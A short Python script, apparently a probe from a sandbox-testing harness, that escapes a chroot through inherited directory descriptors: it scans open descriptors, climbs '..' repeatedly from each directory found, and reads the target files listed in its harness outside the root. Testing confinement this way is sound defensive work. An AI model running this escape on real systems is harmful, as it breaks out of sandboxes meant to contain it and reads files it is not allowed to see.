"""A descriptor of a folder that was opened outside is a way out of the root.

Aim: read
"""

import os
import stat

for number in range(3, 1024):
    kind = hostile.tried(os.fstat, number)
    if kind is None or not stat.S_ISDIR(kind.st_mode):
        continue
    here = number
    for _ in range(40):
        above = hostile.tried(os.open, "..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=here)
        if above is None:
            break
        here = above
        for path in hostile.files:
            found = hostile.tried(os.open, path.lstrip("/"), os.O_RDONLY, dir_fd=here)
            if found is not None:
                hostile.show(os.read(found, 2**20), f"{path} through descriptor {number}")
                os.close(found)
